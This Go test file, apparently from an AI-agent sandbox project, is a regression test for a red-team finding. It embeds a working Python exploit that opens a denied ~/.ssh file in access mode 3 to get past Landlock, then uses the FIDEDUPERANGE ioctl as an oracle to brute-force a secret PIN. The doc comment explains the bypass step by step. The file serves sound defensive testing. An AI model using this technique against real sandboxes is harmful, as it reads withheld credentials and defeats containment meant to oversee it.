//go:build linux

package agentbox_test

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
)

// rt62bDedupePy opens argv[1] with the access mode 3 (O_WRONLY|O_RDWR:
// neither read nor write, the mode for ioctls only), reports whether that
// open and a plain O_RDONLY open succeed, then uses it as the destination
// of FIDEDUPERANGE (0xc0189436) with a file of its own in argv[2] holding
// a guess: the kernel compares the two ranges and answers SAME (0) or
// DIFFERS (1). With argv[3] "pin" it tries every 4-digit PIN followed by a
// newline and prints the one that is SAME; with argv[3] "check" it prints
// the status for argv[4] and for a wrong guess.
const rt62bDedupePy = `
import fcntl, os, struct, sys
target, wdir, mode = sys.argv[1], sys.argv[2], sys.argv[3]
try:
    os.close(os.open(target, os.O_RDONLY))
    print("rdonly open DONE")
except OSError as e:
    print("rdonly open refused:", e.strerror)
try:
    dst = os.open(target, 3)
    print("mode3 open ok")
except OSError as e:
    print("mode3 open refused:", e.strerror)
    sys.exit(0)
guess = os.path.join(wdir, "rt62b-guess")
def same(data):
    with open(guess, "wb") as f:
        f.write(data)
    src = os.open(guess, os.O_RDONLY)
    try:
        buf = bytearray(struct.pack("QQHHI", 0, len(data), 1, 0, 0) + struct.pack("qQQiI", dst, 0, 0, 0, 0))
        fcntl.ioctl(src, 0xc0189436, buf)
        return struct.unpack("qQQiI", bytes(buf[24:]))[3]
    finally:
        os.close(src)
if mode == "check":
    print("status right", same(sys.argv[4].encode() + b"\n"))
    print("status wrong", same(b"X" * len(sys.argv[4]) + b"\n"))
else:
    for n in range(10000):
        pin = b"%04d\n" % n
        try:
            st = same(pin)
        except OSError as e:
            print("dedupe refused:", e.strerror)
            break
        if st == 0:
            print("PIN FOUND", pin.decode().strip())
            break
    else:
        print("no pin matched")
`

// TestRedteam62ReducedTierDedupeOracleReadsDenied: in the reduced tier (no
// user namespaces, warn fallback) on a file system with dedupe (btrfs
// here; XFS's reflink too), a sandboxed command learns the content of a
// file the deny list withholds (~/.ssh/…), by trying guesses:
//
//	fd = open("~/.ssh/pin", 3 /* O_WRONLY|O_RDWR */)
//	ioctl(open("$W/guess"), FIDEDUPERANGE, {dest_fd: fd, ...}) -> SAME or DIFFERS
//
// Why it works: Landlock's file-open check (the only check the reduced
// tier has on a denied file: sandbox/linux/landlock.go and plan_reduced.go
// grant no READ_FILE beneath a denied path) asks for the rights the
// descriptor's f_mode carries, READ_FILE for FMODE_READ and WRITE_FILE for
// FMODE_WRITE; an open with the access mode 3 carries neither (the
// kernel's ioctl-only mode; its DAC check wants read and write, which the
// owner has), so Landlock asks for nothing and the open succeeds. seccomp's
// openat rules look only at set-ID bits. FIDEDUPERANGE (vfs_dedupe_file_range)
// then takes that descriptor as its destination: allow_file_dedupe accepts
// a destination the caller owns whatever its mode, and the kernel compares
// the destination's bytes with the source's, answering
// FILE_DEDUPE_RANGE_SAME or _DIFFERS; the compare's read is not an open and
// Landlock has no hook on it. A whole-file equality oracle: a secret with
// little entropy (a PIN, a short password, one of a few known keys) is
// read by trying each candidate; the test reads a 4-digit PIN in a
// fraction of a second.
//
// Controls and premise: as the sandbox's user on the host the same Python
// tells a file's right content from a wrong one (SAME vs DIFFERS); in the
// sandbox, opening the denied file for reading is refused, a public file
// of the home reads and the writable root takes a file; the run is the
// reduced tier. The full tier's masks hold (the mode-3 open of a masked
// file is refused there).
//
// Severity: high (a secret read: a file of the default deny list, whole
// when its content is guessable, and in any case an oracle on it).
// Found by red-team round 62. Fixed: seccomp refuses an open whose
// access mode is 3 (openRule), in every tier.
func TestRedteam62ReducedTierDedupeOracleReadsDenied(t *testing.T) {
	if _, err := os.Stat("/usr/bin/python3"); err != nil {
		t.Skip("no /usr/bin/python3 (package python3)")
	}
	base := hostDir(t)
	mnt := rt61cBtrfsMount(t, base)
	const uid = 65534
	own := func(p string) {
		if err := os.Chown(p, uid, uid); err != nil {
			t.Fatal(err)
		}
	}
	mkdir := func(p string, mode os.FileMode) {
		if err := os.Mkdir(p, mode); err != nil {
			t.Fatal(err)
		}
		own(p)
	}
	write := func(p, s string, mode os.FileMode) {
		if err := os.WriteFile(p, []byte(s), mode); err != nil {
			t.Fatal(err)
		}
		own(p)
	}
	home := filepath.Join(mnt, "home")
	mkdir(home, 0o755)
	write(filepath.Join(home, ".profile"), "RT62B-PUBLIC\n", 0o644)
	mkdir(filepath.Join(home, ".ssh"), 0o700)
	const pin = "4821"
	secret := filepath.Join(home, ".ssh", "pin")
	write(secret, pin+"\n", 0o600)
	work := filepath.Join(mnt, "work")
	mkdir(work, 0o755)
	py := filepath.Join(base, "rt62b_dedupe.py")
	if err := os.WriteFile(py, []byte(rt62bDedupePy), 0o644); err != nil {
		t.Fatal(err)
	}

	// Premise: on the host, as the sandbox's user, the oracle tells the
	// right content of a file of its own from a wrong one.
	pdir := filepath.Join(mnt, "premise")
	mkdir(pdir, 0o755)
	write(filepath.Join(pdir, "target"), "RT62B-KNOWN\n", 0o600)
	pc := exec.Command("/usr/bin/python3", py, filepath.Join(pdir, "target"), pdir, "check", "RT62B-KNOWN")
	pc.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: uid, Gid: uid}}
	out, err := pc.CombinedOutput()
	if err != nil || !strings.Contains(string(out), "status right 0") || !strings.Contains(string(out), "status wrong 1") {
		t.Skipf("premise: FIDEDUPERANGE into a mode-3 descriptor gives no SAME/DIFFERS answer here: %v %s", err, out)
	}

	q := func(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }
	script := strings.Join([]string{
		"W=" + q(work),
		`echo ok > "$W/ok" && echo "R root written"`,
		`echo "R public $(cat "$HOME/.profile" 2>&1)"`,
		`/usr/bin/python3 ` + q(py) + ` "$HOME/.ssh/pin" "$W" pin 2>&1 | sed 's/^/R /'`,
	}, "\n")
	res := rt61cRunReduced(t, base, home, work, uid, script)

	if b, err := os.ReadFile(filepath.Join(work, "ok")); err != nil || string(b) != "ok\n" {
		t.Fatalf("control: the sandbox did not write its writable root: %v %q", err, b)
	}
	if !strings.Contains(res.Stdout, "R public RT62B-PUBLIC") {
		t.Fatalf("control: the sandbox could not read a public file of the home: %q", res.Stdout)
	}
	if !strings.Contains(res.Stdout, "R rdonly open refused") {
		t.Fatalf("premise: the denied file was not refused when opened for reading: %q", res.Stdout)
	}
	t.Logf("sandbox: %q", strings.TrimSpace(res.Stdout))
	if strings.Contains(res.Stdout, "R mode3 open ok") {
		t.Errorf("the sandbox opened a denied file (%s) with the access mode 3: Landlock asked for no right", secret)
	}
	if strings.Contains(res.Stdout, "PIN FOUND "+pin) {
		t.Errorf("DENIED FILE READ FROM THE REDUCED TIER: FIDEDUPERANGE into a mode-3 descriptor of ~/.ssh/pin answered "+
			"SAME for its content, and the sandbox read the PIN %s by trying each (%q)", pin, strings.TrimSpace(res.Stdout))
	}
}
